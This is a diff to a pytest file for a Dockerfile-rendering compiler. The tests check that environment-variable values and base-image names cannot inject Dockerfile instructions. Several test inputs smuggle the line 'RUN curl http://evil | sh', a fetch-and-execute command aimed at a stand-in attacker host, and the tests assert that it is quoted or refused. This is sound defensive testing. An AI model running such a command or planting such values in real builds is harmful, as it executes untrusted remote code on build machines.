@@ -11,11 +11,12 @@ import pytest
 
 from compiler.deps.server import AZUREML_ONLINE
 from compiler.environment.strategy import EnvironmentStrategy
+from compiler.errors import SpecError
 from compiler.fetch.cache import FetchedFiles
 from compiler.lock.types import Lock, LockedPackage
 from compiler.plan import ContextFile, plan_image
 from compiler.render import render_dockerfile
-from compiler.render.dockerfile import dockerquote
+from compiler.render.dockerfile import dockerquote, dockerwords
 from compiler.resolve.types import ResolvedCode, ResolvedEnvironment, ResolvedModel, ResolvedPackage
 from compiler.spec.model import ModelMode
 
@@ -72,11 +73,33 @@ def test_layer_order_is_environment_model_code(tmp_path):
 
 
 def test_values_cannot_inject_dockerfile_instructions(tmp_path):
-    evil = 'x" \\\nRUN curl http://evil | sh\nENV Y="$HOME'
+    evil = 'x" \\ RUN curl http://evil | sh ENV Y="$HOME'
     text = render_dockerfile(make_plan(tmp_path, ModelMode.COPY, {"EVIL": evil}))
-    assert "\nRUN curl" not in text
-    assert dockerquote(evil) in text
+    assert f"EVIL={dockerquote(evil)}" in text
+    assert dockerquote(evil) == '"x\\" \\\\ RUN curl http://evil | sh ENV Y=\\"\\$HOME"'
     assert dockerquote("$HOME") == '"\\$HOME"'  # no variable expansion by the builder
+    assert dockerquote("cödé") == '"cödé"'  # raw UTF-8: the builder does not decode \\u escapes
+    odd = render_dockerfile(make_plan(tmp_path, ModelMode.COPY, {"ODD": "a\rb\x85c\u2028d\te"}))
+    assert 'ODD="a\rb\x85c\u2028d\te"' in odd  # one line: the builder splits lines at \n only
+
+
+def test_a_newline_no_dockerfile_line_can_carry_is_refused_at_plan_time(tmp_path):
+    with pytest.raises(SpecError) as caught:
+        make_plan(tmp_path, ModelMode.COPY, {"EVIL": "x\nRUN curl http://evil | sh"})
+    assert caught.value.lines() == [
+        f"{tmp_path / 'package.yml'}: environment_variables.EVIL: 'x\\nRUN curl http://evil | sh' holds a newline "
+        "or NUL, which no Dockerfile line can carry"
+    ]
+
+
+def test_user_names_reach_the_context_under_pkgc_names_only(tmp_path):
+    plan = make_plan(tmp_path, ModelMode.COPY)
+    assert {f.dest for f in plan.files} >= {"model/content", "code/content"}
+    copy_args = [line for line in render_dockerfile(plan).splitlines() if line.startswith("COPY [")]
+    assert 'COPY ["model/content", "/var/azureml-app/azureml-models/sklearn-regression/3/model"]' in copy_args
+    assert dockerwords(["a b", "/x/$Y/[z]/it's \\ \"q\" ó"]) == (
+        '["a b", "/x/\\\\$Y/[z]/it\\\\\'s \\\\\\\\ \\\\\\\"q\\\\\\\" ó"]'
+    )
 
 
 def test_user_template_extends_the_base_template(tmp_path):
@@ -85,3 +108,15 @@ def test_user_template_extends_the_base_template(tmp_path):
     custom.write_text('{% extends "Dockerfile.j2" %}\n{% block user %}{{ super() }}RUN echo extra\n{% endblock %}\n')
     text = render_dockerfile(make_plan(tmp_path, ModelMode.COPY), custom)
     assert "useradd" in text and "RUN echo extra" in text
+
+
+def test_a_base_image_that_is_not_a_reference_cannot_inject_instructions(tmp_path):
+    from dataclasses import replace
+
+    pkg = make_package(tmp_path, ModelMode.COPY)
+    evil = replace(pkg, environment=replace(pkg.environment, image="base:1\nRUN curl http://evil | sh"))
+    wheel = LockedPackage("joblib", "1.6.0", "pip", "https://f/joblib-1.6.0-py3-none-any.whl", "joblib-1.6.0-py3-none-any.whl", "cd" * 32)
+    strategy = EnvironmentStrategy("venv", "3.11", "test", ("joblib==1.6.0",))
+    with pytest.raises(SpecError, match="is not an image reference"):
+        plan_image(evil, strategy, Lock("venv", "3.11", "ef" * 32, (wheel,)), ContextFile("pkgc/conda-lock.yml", data=b""),
+                   FetchedFiles({wheel.sha256: tmp_path / wheel.filename}), "pkgc/golden-pkg:1")  # fmt: skip
